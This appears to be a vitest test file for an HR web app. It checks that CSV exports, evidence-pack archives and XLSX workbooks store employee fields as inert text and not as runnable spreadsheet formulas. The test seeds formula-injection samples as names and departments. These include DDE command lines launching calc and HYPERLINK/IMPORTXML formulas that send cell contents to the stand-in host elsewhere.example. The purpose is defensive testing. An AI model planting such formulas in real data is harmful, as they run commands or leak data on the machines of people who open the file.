import { beforeAll, describe, expect, it } from 'vitest'
import { ROUTES } from '../../src/app/route-table.web.ts'
import { REPORT_ROWS } from '../../src/reports/files/names.ts'
import { calendarDate } from '../../src/platform/time/calendar.ts'
import { hire } from '../../src/people/record.store.ts'
import { createSite } from '../../src/site/site.store.ts'
import { type Browser, signedIn, type TestApp, testApp } from '../support/app.ts'
import { parseCsv } from '../support/csv.ts'
import { download } from '../support/download.ts'
import { plannedImport, STAFF_HEADINGS } from '../support/imports.ts'
import { madePack } from '../support/made-pack.ts'
import { type Staff, staffOn } from '../support/staff.ts'
import { addAnswers } from '../support/understanding.ts'
import { unzip } from '../support/unzip.ts'
import { sheetOf } from '../support/workbook.ts'

/** What a spreadsheet runs, or sends elsewhere, when it opens a file. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example/?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A0',
  '+1+1',
  '-2+3',
  '＝1+1',
  '"=1+1',
  '=IMPORTXML(CONCAT("https://elsewhere.example/?x=",A1),"//a")',
]
const RUNS = /^["'\s]*[=+\-@\t\r\n＝＋－＠]/

let test: TestApp
let staff: Staff
let ada: Browser
beforeAll(async () => {
  test = await testApp()
  staff = await staffOn(test)
  ada = await signedIn(test, staff.ada)
  const { deps } = test
  const recording = { course: deps.contents.en.course.id, actor: staff.ada, at: deps.now() } as const
  await addAnswers(test)
  await deps.store.transaction(async (tx) => {
    const site = (await createSite(tx, { slug: 'formula-house', name: '=1+1 House' }, deps.now())).id
    for (const [index, text] of FORMULAS.entries()) {
      const facts = { name: text, email: `f${index}@harborstreet.example`, employee_number: `${text}${index}` }
      const hired = { facts, department: text, position: text, hiredOn: calendarDate('2026-01-05') }
      const rest = { person: null, site, supervisor: null, type: 'employee', language: 'en' } as const
      const to = { ...recording, today: calendarDate('2026-11-24') }
      await hire(tx, { ...hired, ...rest, worksWithYouth: true }, to)
    }
  })
})

describe('a file that a spreadsheet opens', () => {
  it('is each of these, or a test of its own looks at it', () => {
    const files = ROUTES.map(([, path]) => path).filter((path) => path.endsWith('.csv') || path.endsWith('/file'))
    expect(files.toSorted()).toEqual([
      '/hr/audit.csv',
      '/hr/imports/:import/refused.csv',
      '/hr/imports/sample.csv',
      '/hr/imports/template.csv',
      '/hr/people.csv',
      '/hr/people/:person/file',
      '/hr/reports/file',
      '/hr/reports/files/:made/file',
      '/hr/reports/period/file',
      '/hr/reports/period/file',
      '/hr/selections/:selection/file',
      '/hr/understanding.csv',
    ])
  })

  it('has the names of people as text, in each CSV file', async () => {
    const refused = await plannedImport(test, staff.ada, {
      text: `${STAFF_HEADINGS}\n${FORMULAS.map((text) => `"${text.replaceAll('"', '""')}",,,Nowhere,,,,,`).join('\n')}\n`,
    })
    const id = refused.slice(refused.indexOf(':') + 1)
    const files = ['/hr/people.csv', '/hr/imports/sample.csv', `/hr/imports/${id}/refused.csv`]
    for (const rows of REPORT_ROWS) {
      const about = `/hr/reports/file?status=everyone&format=csv&rows=${rows}`
      // The file says what it was narrowed to.
      files.push(about, ...FORMULAS.map((text) => `${about}&department=${encodeURIComponent(text)}`))
    }
    files.push('/hr/reports/period/file?from=2026-01-01&to=2026-11-24&format=csv', '/hr/understanding.csv')
    for (const path of files) {
      const { status, bytes } = await download(ada, path)
      expect(status, path).toBe(200)
      expect(namesIn(path, bytes.toString()), path).toBe(path !== '/hr/understanding.csv')
    }
  })

  it('has them as text in each CSV file of an evidence pack', async () => {
    const { id } = await madePack(test, staff.ada)
    const { bytes } = await download(ada, `/hr/packs/${id.slice(id.indexOf(':') + 1)}/pack.zip`)
    const lists = [...(await unzip(bytes))].filter(([name]) => name.endsWith('.csv'))
    const named = lists.filter(([name, content]) => namesIn(name, content.toString()))
    expect(named.map(([name]) => name)).toContain('roster.csv')
  })

  it('has them as text, and nothing that is run, in each workbook', async () => {
    for (const rows of REPORT_ROWS) {
      const { bytes } = await download(ada, `/hr/reports/file?status=everyone&format=xlsx&rows=${rows}`)
      const files = await unzip(bytes)
      for (const sheet of [1, 2, 3, 4]) expect(sheetOf(files, sheet).xml).not.toMatch(/<f[ >]/)
      for (const list of [2, 3]) {
        const found = sheetOf(files, list)
          .rows.flat()
          .filter(({ text }) => FORMULAS.includes(text))
        expect(new Set(found.map(({ kind }) => kind))).toEqual(new Set(['text']))
      }
      expect([...files.keys()].filter((name) => /externalLink|connections|vbaProject|\.rels$/.test(name))).toEqual(
        [...files.keys()].filter((name) => name.endsWith('.rels')),
      )
      for (const [name, content] of files)
        if (name.endsWith('.rels')) expect(content.toString()).not.toContain('External')
    }
  })
})

/** Whether the names of people are in a file at all. Nothing in it may be run. */
function namesIn(name: string, text: string): boolean {
  const cells = parseCsv(text.replace(/^\uFEFF/, '')).flat()
  expect(
    cells.filter((cell) => RUNS.test(cell) && !cell.startsWith("'")),
    name,
  ).toEqual([])
  return cells.some((cell) => cell.includes('1+1'))
}
